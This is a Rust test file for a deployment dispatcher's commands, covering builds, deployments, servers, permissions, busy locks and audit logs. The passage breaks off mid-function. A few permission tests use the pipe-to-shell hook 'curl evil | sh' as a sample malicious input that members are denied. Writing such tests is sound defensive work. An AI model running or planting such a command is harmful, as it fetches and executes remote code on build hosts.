//! Command dispatcher tests

mod support;

use std::sync::Arc;

use async_trait::async_trait;
use client_api::{Build, Command, CommandEnvelope, Deployment, Event, Server, UpdateTarget};
use fleetd::action::{ActionFlag, ActionRegistry};
use fleetd::audit::{AuditPipeline, BroadcastHub};
use fleetd::dispatch::{Dispatcher, Outcome, UPDATES_PAGE_SIZE};
use fleetd::errors::CoreError;
use fleetd::exec::{NodeOp, NodeRef};
use fleetd::store::memory::{MemoryAuditLog, MemoryCollection, MemoryUsers};
use fleetd::store::{Collection, Filter, Resources};
use periphery_api::Hook;
use support::{build, deployment, drain, server, user, Harness, MockExecutor};

fn cmd(command: Command) -> CommandEnvelope {
    CommandEnvelope::new(command)
}

fn completed(outcome: Outcome) -> client_api::Update {
    match outcome {
        Outcome::Completed(update) => update,
        other => panic!("expected a completed outcome, got {:?}", other),
    }
}

fn is_progress_done(event: &Event) -> bool {
    matches!(event, Event::Progress { complete: true, .. })
}

// ================================== BUILDS ==================================== //

#[tokio::test]
async fn test_create_build_without_repo() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;
    let mut alice = h.subscribe("alice", 1);

    let new_build = Build {
        name: "My App".to_string(),
        ..Default::default()
    };
    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::CreateBuild(new_build)))
            .await
            .unwrap(),
    );
    assert_eq!(update.operation, "CreateBuild");
    assert!(!update.is_error);

    let stored = h.builds.all().await;
    assert_eq!(stored.len(), 1);
    let created = &stored[0];
    assert_eq!(created.pull_name, "my-app");
    assert!(created.owners.contains(&"alice".to_string()));
    assert_eq!(update.target, UpdateTarget::Build(created.id.clone()));

    assert!(h.dispatcher.actions().is_registered(&created.id));
    assert!(!h.dispatcher.actions().busy(&created.id));
    assert_eq!(h.executor.call_count(), 0);
    assert_eq!(h.audit_log.len().await, 1);

    let events = drain(&mut alice);
    assert!(events
        .iter()
        .any(|e| matches!(e, Event::BuildCreated { build } if build.id == created.id)));
    assert!(events
        .iter()
        .any(|e| matches!(e, Event::Update { update } if update.operation == "CreateBuild")));
    assert!(is_progress_done(events.last().unwrap()));
}

#[tokio::test]
async fn test_create_build_with_repo_clones() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;

    let new_build = Build {
        name: "api".to_string(),
        repo: Some("acme/api".to_string()),
        ..Default::default()
    };
    completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::CreateBuild(new_build)))
            .await
            .unwrap(),
    );

    let ops = h.executor.ops();
    assert_eq!(ops.len(), 1);
    match &ops[0] {
        NodeOp::CloneRepo(spec) => {
            assert_eq!(spec.name, "api");
            assert_eq!(spec.repo, "acme/api");
        }
        other => panic!("unexpected op {:?}", other),
    }

    let operations: Vec<String> = h.audit_log.all().await.into_iter().map(|u| u.operation).collect();
    assert_eq!(operations, vec!["CreateBuild", "CloneBuild"]);
}

#[tokio::test]
async fn test_member_cannot_set_hooks() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;

    let new_build = Build {
        name: "sneaky".to_string(),
        on_pull: Some(Hook {
            path: String::new(),
            command: "curl evil | sh".to_string(),
        }),
        ..Default::default()
    };
    match h
        .dispatcher
        .dispatch("alice", cmd(Command::CreateBuild(new_build.clone())))
        .await
        .unwrap()
    {
        Outcome::Denied(update) => {
            assert_eq!(update.operation, "CreateBuild (DENIED)");
            assert_eq!(update.target, UpdateTarget::System);
        }
        other => panic!("expected denial, got {:?}", other),
    }
    assert!(h.builds.all().await.is_empty());

    // Admins may
    completed(
        h.dispatcher
            .dispatch("root", cmd(Command::CreateBuild(new_build)))
            .await
            .unwrap(),
    );
    assert_eq!(h.builds.all().await.len(), 1);
}

#[tokio::test]
async fn test_tier_zero_cannot_create() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;
    let new_build = Build {
        name: "x".to_string(),
        ..Default::default()
    };
    let outcome = h
        .dispatcher
        .dispatch("carol", cmd(Command::CreateBuild(new_build)))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Denied(_)));
    assert!(h.builds.all().await.is_empty());
}

#[tokio::test]
async fn test_back_to_back_pulls_rejected_while_busy() {
    let h = Harness::new(vec![build("b2", &["alice"])], Vec::new(), Vec::new()).await;
    h.executor.gate();

    let dispatcher = h.dispatcher.clone();
    let first = tokio::spawn(async move {
        dispatcher
            .dispatch("alice", cmd(Command::PullBuild {
                build_id: "b2".to_string(),
            }))
            .await
    });

    h.executor.wait_started().await;
    assert!(h.dispatcher.actions().get("b2", ActionFlag::Pulling));

    let second = h
        .dispatcher
        .dispatch("alice", cmd(Command::PullBuild {
            build_id: "b2".to_string(),
        }))
        .await
        .unwrap();
    match &second {
        Outcome::Busy(message) => assert!(message.contains("busy")),
        other => panic!("expected busy, got {:?}", other),
    }
    assert!(second.reply().is_some());

    h.executor.release();
    let first = completed(first.await.unwrap().unwrap());
    assert!(!first.is_error);
    assert!(!h.dispatcher.actions().busy("b2"));
    assert_eq!(h.audit_log.len().await, 1);

    let third = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::PullBuild {
                build_id: "b2".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(!third.is_error);
    assert_eq!(h.audit_log.len().await, 2);
}

#[tokio::test]
async fn test_busy_is_compound_across_operations() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), Vec::new()).await;
    let _held = h
        .dispatcher
        .actions()
        .try_acquire("b1", ActionFlag::Building)
        .unwrap()
        .unwrap();

    let outcome = h
        .dispatcher
        .dispatch("alice", cmd(Command::PullBuild {
            build_id: "b1".to_string(),
        }))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Busy(_)));
    assert_eq!(h.executor.call_count(), 0);
    assert!(h.audit_log.is_empty().await);
}

#[tokio::test]
async fn test_failed_operation_is_audited_and_flag_cleared() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), Vec::new()).await;
    let mut alice = h.subscribe("alice", 1);
    h.executor.fail_results(true);

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::Build {
                build_id: "b1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(update.is_error);
    assert!(!update.log.stderr.is_empty());
    assert!(!h.dispatcher.actions().busy("b1"));

    // Pull then build, the build still ran after the failed pull
    let ops = h.executor.ops();
    assert!(matches!(ops[0], NodeOp::PullRepo(_)));
    assert!(matches!(ops[1], NodeOp::BuildImage(_)));

    let events = drain(&mut alice);
    assert!(is_progress_done(events.last().unwrap()));
}

#[tokio::test]
async fn test_panic_becomes_error_result() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), Vec::new()).await;
    let mut root = h.subscribe("root", 2);
    h.executor.panic_on_run(true);

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::PullBuild {
                build_id: "b1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(update.is_error);
    assert!(update.log.stderr.contains("executor exploded"));
    assert!(!h.dispatcher.actions().busy("b1"));
    assert_eq!(h.audit_log.len().await, 1);

    let events = drain(&mut root);
    assert!(is_progress_done(events.last().unwrap()));
}

#[tokio::test]
async fn test_build_image_spec() {
    let mut b1 = build("b1", &["alice"]);
    b1.docker_account = Some("acme".to_string());
    let h = Harness::new(vec![b1], Vec::new(), Vec::new()).await;

    completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::Build {
                build_id: "b1".to_string(),
            }))
            .await
            .unwrap(),
    );
    let spec = h
        .executor
        .ops()
        .into_iter()
        .find_map(|op| match op {
            NodeOp::BuildImage(spec) => Some(spec),
            _ => None,
        })
        .unwrap();
    assert_eq!(spec.image, "acme/build-b1");
    assert!(spec.push);
}

#[tokio::test]
async fn test_pull_without_repo_rejected() {
    let mut b1 = build("b1", &["alice"]);
    b1.repo = None;
    let h = Harness::new(vec![b1], Vec::new(), Vec::new()).await;

    let outcome = h
        .dispatcher
        .dispatch("alice", cmd(Command::PullBuild {
            build_id: "b1".to_string(),
        }))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Rejected(_)));
    assert!(h.audit_log.is_empty().await);
}

#[tokio::test]
async fn test_update_build_renames_working_copy() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), Vec::new()).await;
    let mut changes = build("b1", &[]);
    changes.name = "Renamed App".to_string();

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::UpdateBuild(changes)))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);

    match &h.executor.ops()[0] {
        NodeOp::RenameRepo(rename) => {
            assert_eq!(rename.from, "build-b1");
            assert_eq!(rename.to, "renamed-app");
        }
        other => panic!("unexpected op {:?}", other),
    }
    let stored = h.builds.all().await;
    assert_eq!(stored[0].pull_name, "renamed-app");
    // Owners are never taken from the request
    assert_eq!(stored[0].owners, vec!["alice".to_string()]);
}

#[tokio::test]
async fn test_non_owner_member_denied() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), Vec::new()).await;
    let outcome = h
        .dispatcher
        .dispatch("bob", cmd(Command::UpdateBuild(build("b1", &["bob"]))))
        .await
        .unwrap();
    match outcome {
        Outcome::Denied(update) => {
            assert_eq!(update.operation, "UpdateBuild (DENIED)");
            assert_eq!(update.operator, "bob");
        }
        other => panic!("expected denial, got {:?}", other),
    }
    assert_eq!(h.builds.all().await[0].owners, vec!["alice".to_string()]);
}

#[tokio::test]
async fn test_delete_build_detaches_deployments() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.build_id = Some("b1".to_string());
    let h = Harness::new(vec![build("b1", &["alice"])], vec![d1], Vec::new()).await;
    let mut alice = h.subscribe("alice", 1);

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::DeleteBuild {
                build_id: "b1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);
    assert!(h.builds.all().await.is_empty());
    assert!(h.deployments.all().await[0].build_id.is_none());
    assert!(!h.dispatcher.actions().is_registered("b1"));
    assert!(matches!(h.executor.ops()[0], NodeOp::DeleteRepo { .. }));

    let events = drain(&mut alice);
    assert!(events
        .iter()
        .any(|e| matches!(e, Event::DeploymentUpdated { deployment } if deployment.id == "d1")));
    assert!(events
        .iter()
        .any(|e| matches!(e, Event::BuildDeleted { build_id } if build_id == "b1")));
}

#[tokio::test]
async fn test_update_build_moves_working_copy() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), vec![server("s1", false)]).await;
    let mut changes = build("b1", &[]);
    changes.server_id = Some("s1".to_string());
    changes.branch = Some("release".to_string());

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::UpdateBuild(changes)))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);

    // The old copy goes from the old node before the new one is cloned
    let calls = h.executor.calls();
    assert_eq!(calls.len(), 2);
    assert_eq!(
        calls[0],
        (NodeRef::Core, NodeOp::DeleteRepo {
            name: "build-b1".to_string(),
        })
    );
    match &calls[1] {
        (NodeRef::Remote(node), NodeOp::CloneRepo(spec)) => {
            assert_eq!(node.server_id, "s1");
            assert_eq!(spec.name, "build-b1");
            assert_eq!(spec.branch.as_deref(), Some("release"));
        }
        other => panic!("unexpected call {:?}", other),
    }

    assert_eq!(h.builds.all().await[0].server_id.as_deref(), Some("s1"));
    let operations: Vec<String> = h.audit_log.all().await.into_iter().map(|u| u.operation).collect();
    assert_eq!(operations, vec!["UpdateBuild"]);
}

#[tokio::test]
async fn test_member_cannot_change_existing_hook() {
    let mut b1 = build("b1", &["alice"]);
    b1.on_pull = Some(Hook {
        path: String::new(),
        command: "make".to_string(),
    });
    let h = Harness::new(vec![b1.clone()], Vec::new(), Vec::new()).await;

    let mut changes = b1.clone();
    changes.on_pull = Some(Hook {
        path: String::new(),
        command: "make && curl evil | sh".to_string(),
    });
    match h
        .dispatcher
        .dispatch("alice", cmd(Command::UpdateBuild(changes)))
        .await
        .unwrap()
    {
        Outcome::Denied(update) => assert_eq!(update.operation, "UpdateBuild (DENIED)"),
        other => panic!("expected denial, got {:?}", other),
    }
    assert_eq!(h.builds.all().await[0], b1);
    assert_eq!(h.executor.call_count(), 0);
    assert_eq!(h.audit_log.len().await, 1);

    // Leaving the hook as it was is fine
    let mut changes = b1.clone();
    changes.branch = Some("main".to_string());
    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::UpdateBuild(changes)))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);
    assert_eq!(h.builds.all().await[0].on_pull, b1.on_pull);
}

#[tokio::test]
async fn test_cancel_build() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), Vec::new()).await;

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::CancelBuild {
                build_id: "b1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);
    assert_eq!(update.operation, "CancelBuild");
    assert_eq!(
        h.executor.ops(),
        vec![NodeOp::CancelBuild {
            name: "build-b1".to_string(),
        }]
    );
    let operations: Vec<String> = h.audit_log.all().await.into_iter().map(|u| u.operation).collect();
    assert_eq!(operations, vec!["CancelBuild"]);
    assert!(!h.dispatcher.actions().busy("b1"));
}

#[tokio::test]
async fn test_failed_delete_build_still_unregisters() {
    let h = Harness::new(vec![build("b1", &["alice"])], Vec::new(), Vec::new()).await;
    h.executor.fail_results(true);

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::DeleteBuild {
                build_id: "b1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(update.is_error);
    assert!(h.builds.all().await.is_empty());
    assert!(!h.dispatcher.actions().is_registered("b1"));
}

// =============================== DEPLOYMENTS ================================== //

#[tokio::test]
async fn test_denied_delete_deployment() {
    let h = Harness::new(Vec::new(), vec![deployment("d1", &["alice"])], Vec::new()).await;
    let mut root = h.subscribe("root", 2);
    let mut carol = h.subscribe("carol", 0);
    let mut bob = h.subscribe("bob", 1);

    let outcome = h
        .dispatcher
        .dispatch("carol", cmd(Command::DeleteDeployment {
            deployment_id: "d1".to_string(),
        }))
        .await
        .unwrap();
    let update = match outcome {
        Outcome::Denied(update) => update,
        other => panic!("expected denial, got {:?}", other),
    };
    assert_eq!(update.operation, "DeleteDeployment (DENIED)");
    assert!(update.is_error);

    assert_eq!(h.deployments.all().await.len(), 1);
    assert_eq!(h.executor.call_count(), 0);
    assert_eq!(h.audit_log.len().await, 1);

    assert_eq!(drain(&mut root).len(), 1);
    assert_eq!(drain(&mut carol).len(), 1);
    assert!(drain(&mut bob).is_empty());
}

#[tokio::test]
async fn test_deploy_uses_build_image() {
    let mut b1 = build("b1", &["alice"]);
    b1.docker_account = Some("acme".to_string());
    let mut d1 = deployment("d1", &["alice"]);
    d1.build_id = Some("b1".to_string());
    let h = Harness::new(vec![b1], vec![d1], Vec::new()).await;
    let mut alice = h.subscribe("alice", 1);

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::Deploy {
                deployment_id: "d1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);

    let calls = h.executor.calls();
    match &calls[0] {
        (NodeRef::Core, NodeOp::RunContainer(spec)) => {
            assert_eq!(spec.image, "acme/build-b1");
            assert_eq!(spec.name, "deployment-d1");
        }
        other => panic!("unexpected call {:?}", other),
    }
    assert!(matches!(calls[1].1, NodeOp::GetContainerStatus { .. }));

    let events = drain(&mut alice);
    assert!(events.iter().any(|e| matches!(
        e,
        Event::ContainerStatus { deployment_id, status: Some(_) } if deployment_id == "d1"
    )));
}

#[tokio::test]
async fn test_deploy_without_image_fails() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.image = None;
    let h = Harness::new(Vec::new(), vec![d1], Vec::new()).await;

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::Deploy {
                deployment_id: "d1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(update.is_error);
    assert_eq!(h.executor.call_count(), 0);
    assert!(!h.dispatcher.actions().busy("d1"));
}

#[tokio::test]
async fn test_deploy_on_remote_server() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.server_id = Some("s1".to_string());
    let h = Harness::new(Vec::new(), vec![d1], vec![server("s1", false)]).await;

    completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::Deploy {
                deployment_id: "d1".to_string(),
            }))
            .await
            .unwrap(),
    );
    match &h.executor.calls()[0].0 {
        NodeRef::Remote(node) => assert_eq!(node.server_id, "s1"),
        other => panic!("expected remote node, got {:?}", other),
    }
}

#[tokio::test]
async fn test_container_actions() {
    let h = Harness::new(Vec::new(), vec![deployment("d1", &["alice"])], Vec::new()).await;

    for (command, expected) in [
        (
            Command::StopContainer {
                deployment_id: "d1".to_string(),
            },
            "docker stop deployment-d1",
        ),
        (
            Command::StartContainer {
                deployment_id: "d1".to_string(),
            },
            "docker start deployment-d1",
        ),
    ] {
        let update = completed(h.dispatcher.dispatch("alice", cmd(command)).await.unwrap());
        assert_eq!(update.command, expected);
    }
    assert!(!h.dispatcher.actions().busy("d1"));
}

#[tokio::test]
async fn test_missing_target_is_ignored() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;
    let mut root = h.subscribe("root", 2);

    let outcome = h
        .dispatcher
        .dispatch("root", cmd(Command::Deploy {
            deployment_id: "gone".to_string(),
        }))
        .await
        .unwrap();
    assert_eq!(outcome, Outcome::Ignored);
    assert!(outcome.reply().is_none());
    assert!(h.audit_log.is_empty().await);
    assert!(drain(&mut root).is_empty());
}

#[tokio::test]
async fn test_note_is_recorded() {
    let h = Harness::new(Vec::new(), vec![deployment("d1", &["alice"])], Vec::new()).await;
    let envelope = CommandEnvelope::parse(r#"{"type": "StopContainer", "deploymentId": "d1", "note": "maintenance"}"#)
        .unwrap();

    let update = completed(h.dispatcher.dispatch("alice", envelope).await.unwrap());
    assert_eq!(update.note.as_deref(), Some("maintenance"));
}

#[tokio::test]
async fn test_create_deployment_with_repo_clones() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;
    let new_deployment = Deployment {
        name: "Web App".to_string(),
        repo: Some("acme/web".to_string()),
        ..Default::default()
    };

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::CreateDeployment(new_deployment)))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);

    let ops = h.executor.ops();
    assert_eq!(ops.len(), 1);
    match &ops[0] {
        NodeOp::CloneRepo(spec) => {
            assert_eq!(spec.name, "web-app");
            assert_eq!(spec.repo, "acme/web");
        }
        other => panic!("unexpected op {:?}", other),
    }
    let operations: Vec<String> = h.audit_log.all().await.into_iter().map(|u| u.operation).collect();
    assert_eq!(operations, vec!["CreateDeployment", "CloneDeployment"]);

    let created = &h.deployments.all().await[0];
    assert!(h.dispatcher.actions().is_registered(&created.id));
    assert!(!h.dispatcher.actions().busy(&created.id));
}

#[tokio::test]
async fn test_update_deployment_moves_working_copy() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.repo = Some("acme/d1".to_string());
    let h = Harness::new(Vec::new(), vec![d1.clone()], Vec::new()).await;

    let mut changes = d1.clone();
    changes.repo = Some("acme/other".to_string());
    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::UpdateDeployment(changes)))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);

    let ops = h.executor.ops();
    assert_eq!(ops.len(), 2);
    assert_eq!(
        ops[0],
        NodeOp::DeleteRepo {
            name: "deployment-d1".to_string(),
        }
    );
    match &ops[1] {
        NodeOp::CloneRepo(spec) => assert_eq!(spec.repo, "acme/other"),
        other => panic!("unexpected op {:?}", other),
    }
    assert_eq!(h.deployments.all().await[0].repo.as_deref(), Some("acme/other"));
    let operations: Vec<String> = h.audit_log.all().await.into_iter().map(|u| u.operation).collect();
    assert_eq!(operations, vec!["UpdateDeployment"]);
}

#[tokio::test]
async fn test_delete_deployment_removes_container_and_repo() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.repo = Some("acme/d1".to_string());
    let h = Harness::new(Vec::new(), vec![d1], Vec::new()).await;
    let mut alice = h.subscribe("alice", 1);

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::DeleteDeployment {
                deployment_id: "d1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);
    assert_eq!(
        h.executor.ops(),
        vec![
            NodeOp::DeleteContainer {
                name: "deployment-d1".to_string(),
            },
            NodeOp::DeleteRepo {
                name: "deployment-d1".to_string(),
            },
        ]
    );
    assert!(h.deployments.all().await.is_empty());
    assert!(!h.dispatcher.actions().is_registered("d1"));
    let operations: Vec<String> = h.audit_log.all().await.into_iter().map(|u| u.operation).collect();
    assert_eq!(operations, vec!["DeleteDeployment"]);

    let events = drain(&mut alice);
    assert!(events
        .iter()
        .any(|e| matches!(e, Event::DeploymentDeleted { deployment_id } if deployment_id == "d1")));
}

#[tokio::test]
async fn test_failed_delete_deployment_still_unregisters() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.repo = Some("acme/d1".to_string());
    let h = Harness::new(Vec::new(), vec![d1], Vec::new()).await;
    let mut alice = h.subscribe("alice", 1);
    h.executor.fail_results(true);

    let update = completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::DeleteDeployment {
                deployment_id: "d1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(update.is_error);
    assert!(h.deployments.all().await.is_empty());
    assert!(!h.dispatcher.actions().is_registered("d1"));
    assert!(drain(&mut alice)
        .iter()
        .any(|e| matches!(e, Event::DeploymentDeleted { deployment_id } if deployment_id == "d1")));

    let outcome = h
        .dispatcher
        .dispatch("alice", cmd(Command::StartContainer {
            deployment_id: "d1".to_string(),
        }))
        .await
        .unwrap();
    assert_eq!(outcome, Outcome::Ignored);
    assert!(!h.dispatcher.actions().is_registered("d1"));
}

// ================================= SERVERS ==================================== //

#[tokio::test]
async fn test_add_server_admin_only() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;
    let new_server = Server {
        name: "edge".to_string(),
        address: "http://edge:8000".to_string(),
        enabled: true,
        ..Default::default()
    };

    let outcome = h
        .dispatcher
        .dispatch("alice", cmd(Command::AddServer(new_server.clone())))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Denied(_)));

    let update = completed(
        h.dispatcher
            .dispatch("root", cmd(Command::AddServer(new_server)))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);
    let stored = h.servers.all().await;
    assert_eq!(stored.len(), 1);
    assert!(h.dispatcher.actions().is_registered(&stored[0].id));
}

#[tokio::test]
async fn test_second_core_rejected() {
    let h = Harness::new(Vec::new(), Vec::new(), vec![server("core", true)]).await;
    let outcome = h
        .dispatcher
        .dispatch("root", cmd(Command::AddServer(Server {
            name: "another".to_string(),
            is_core: true,
            ..Default::default()
        })))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Rejected(_)));
    assert_eq!(h.servers.all().await.len(), 1);
}

#[tokio::test]
async fn test_update_server_keeps_passkey() {
    let mut s1 = server("s1", false);
    s1.passkey = Some("secret".to_string());
    let h = Harness::new(Vec::new(), Vec::new(), vec![s1]).await;

    let mut changes = server("s1", false);
    changes.name = "renamed".to_string();
    changes.owners = Vec::new();
    completed(
        h.dispatcher
            .dispatch("root", cmd(Command::UpdateServer(changes)))
            .await
            .unwrap(),
    );

    let stored = &h.servers.all().await[0];
    assert_eq!(stored.name, "renamed");
    assert_eq!(stored.passkey.as_deref(), Some("secret"));
    assert_eq!(stored.owners, vec!["root".to_string()]);
}

#[tokio::test]
async fn test_remove_server_busy_when_deployment_busy() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.server_id = Some("s1".to_string());
    let h = Harness::new(Vec::new(), vec![d1], vec![server("s1", false)]).await;

    let held = h
        .dispatcher
        .actions()
        .try_acquire("d1", ActionFlag::Deploying)
        .unwrap()
        .unwrap();
    let outcome = h
        .dispatcher
        .dispatch("root", cmd(Command::RemoveServer {
            server_id: "s1".to_string(),
            delete_containers: true,
        }))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Busy(_)));
    assert!(!h.dispatcher.actions().busy("s1"));
    assert_eq!(h.servers.all().await.len(), 1);
    drop(held);

    let update = completed(
        h.dispatcher
            .dispatch("root", cmd(Command::RemoveServer {
                server_id: "s1".to_string(),
                delete_containers: true,
            }))
            .await
            .unwrap(),
    );
    assert!(!update.is_error);
    assert!(h.servers.all().await.is_empty());
    assert!(h.deployments.all().await.is_empty());
    assert!(!h.dispatcher.actions().is_registered("s1"));
    assert!(!h.dispatcher.actions().is_registered("d1"));
    assert!(matches!(h.executor.ops()[0], NodeOp::DeleteContainer { .. }));
}

#[tokio::test]
async fn test_prune_images_admin_only() {
    let h = Harness::new(Vec::new(), Vec::new(), vec![server("s1", false)]).await;

    let outcome = h
        .dispatcher
        .dispatch("alice", cmd(Command::PruneImages {
            server_id: "s1".to_string(),
        }))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Denied(_)));

    completed(
        h.dispatcher
            .dispatch("root", cmd(Command::PruneImages {
                server_id: "s1".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert_eq!(h.executor.ops(), vec![NodeOp::PruneImages]);
}

#[tokio::test]
async fn test_failed_remove_server_still_unregisters() {
    let mut d1 = deployment("d1", &["alice"]);
    d1.server_id = Some("s1".to_string());
    let h = Harness::new(Vec::new(), vec![d1], vec![server("s1", false)]).await;
    h.executor.fail_results(true);

    let update = completed(
        h.dispatcher
            .dispatch("root", cmd(Command::RemoveServer {
                server_id: "s1".to_string(),
                delete_containers: true,
            }))
            .await
            .unwrap(),
    );
    assert!(update.is_error);
    assert_eq!(
        h.executor.ops(),
        vec![NodeOp::DeleteContainer {
            name: "deployment-d1".to_string(),
        }]
    );
    assert!(h.servers.all().await.is_empty());
    assert!(h.deployments.all().await.is_empty());
    assert!(!h.dispatcher.actions().is_registered("s1"));
    assert!(!h.dispatcher.actions().is_registered("d1"));
}

// ================================= QUERIES ==================================== //

#[tokio::test]
async fn test_check_server_replies_to_requester() {
    let h = Harness::new(Vec::new(), Vec::new(), vec![server("s1", false)]).await;
    h.executor.set_reachable(false);

    let outcome = h
        .dispatcher
        .dispatch("alice", cmd(Command::CheckServer {
            server_id: "s1".to_string(),
        }))
        .await
        .unwrap();
    assert_eq!(
        outcome.reply(),
        Some(Event::ServerReachability {
            server_id: "s1".to_string(),
            reachable: false,
        })
    );
    assert!(h.audit_log.is_empty().await);
}

#[tokio::test]
async fn test_container_log_requires_ownership() {
    let h = Harness::new(Vec::new(), vec![deployment("d1", &["alice"])], Vec::new()).await;

    let outcome = h
        .dispatcher
        .dispatch("bob", cmd(Command::GetContainerLog {
            deployment_id: "d1".to_string(),
            tail: Some(50),
        }))
        .await
        .unwrap();
    assert!(matches!(outcome, Outcome::Rejected(_)));

    let outcome = h
        .dispatcher
        .dispatch("alice", cmd(Command::GetContainerLog {
            deployment_id: "d1".to_string(),
            tail: Some(50),
        }))
        .await
        .unwrap();
    match outcome {
        Outcome::Reply(Event::ContainerLog { log, .. }) => assert_eq!(log.stdout, "log of deployment-d1"),
        other => panic!("unexpected outcome {:?}", other),
    }
}

#[tokio::test]
async fn test_updates_paged_and_filtered() {
    let h = Harness::new(
        vec![build("b1", &["alice"]), build("b2", &["bob"])],
        Vec::new(),
        Vec::new(),
    )
    .await;

    for _ in 0..12 {
        completed(
            h.dispatcher
                .dispatch("alice", cmd(Command::PullBuild {
                    build_id: "b1".to_string(),
                }))
                .await
                .unwrap(),
        );
    }
    completed(
        h.dispatcher
            .dispatch("bob", cmd(Command::PullBuild {
                build_id: "b2".to_string(),
            }))
            .await
            .unwrap(),
    );

    let page = |offset| Command::GetUpdates { target: None, offset };
    let updates = match h.dispatcher.dispatch("alice", cmd(page(0))).await.unwrap() {
        Outcome::Reply(Event::Updates { updates }) => updates,
        other => panic!("unexpected outcome {:?}", other),
    };
    assert_eq!(updates.len(), UPDATES_PAGE_SIZE);
    assert!(updates
        .iter()
        .all(|u| u.target == UpdateTarget::Build("b1".to_string())));

    let rest = match h.dispatcher.dispatch("alice", cmd(page(10))).await.unwrap() {
        Outcome::Reply(Event::Updates { updates }) => updates,
        other => panic!("unexpected outcome {:?}", other),
    };
    assert_eq!(rest.len(), 2);

    let only_b2 = Command::GetUpdates {
        target: Some(UpdateTarget::Build("b2".to_string())),
        offset: 0,
    };
    match h.dispatcher.dispatch("root", cmd(only_b2)).await.unwrap() {
        Outcome::Reply(Event::Updates { updates }) => assert_eq!(updates.len(), 1),
        other => panic!("unexpected outcome {:?}", other),
    }

    let outcome = h.dispatcher.dispatch("carol", cmd(page(0))).await.unwrap();
    assert!(matches!(outcome, Outcome::Rejected(_)));
}

// ================================== USERS ===================================== //

#[tokio::test]
async fn test_unknown_and_disabled_users_ignored() {
    let h = Harness::new(vec![build("b1", &["dave"])], Vec::new(), Vec::new()).await;
    let mut dave = support::user("dave", 2);
    dave.enabled = false;
    h.users.insert(dave).await;

    for user_id in ["dave", "nobody"] {
        let outcome = h
            .dispatcher
            .dispatch(user_id, cmd(Command::PullBuild {
                build_id: "b1".to_string(),
            }))
            .await
            .unwrap();
        assert_eq!(outcome, Outcome::Ignored);
    }
    assert_eq!(h.executor.call_count(), 0);
    assert!(h.audit_log.is_empty().await);
}

#[tokio::test]
async fn test_unknown_command_ignored() {
    let h = Harness::new(Vec::new(), Vec::new(), Vec::new()).await;
    let envelope = CommandEnvelope::parse(r#"{"type": "LaunchRockets", "target": "moon"}"#).unwrap();
    let outcome = h.dispatcher.dispatch("root", envelope).await.unwrap();
    assert_eq!(outcome, Outcome::Ignored);
}

#[tokio::test]
async fn test_registry_tracks_seeded_resources() {
    let h = Harness::new(
        vec![build("b1", &["alice"])],
        vec![deployment("d1", &["alice"])],
        vec![server("s1", false)],
    )
    .await;
    let actions = h.dispatcher.actions();
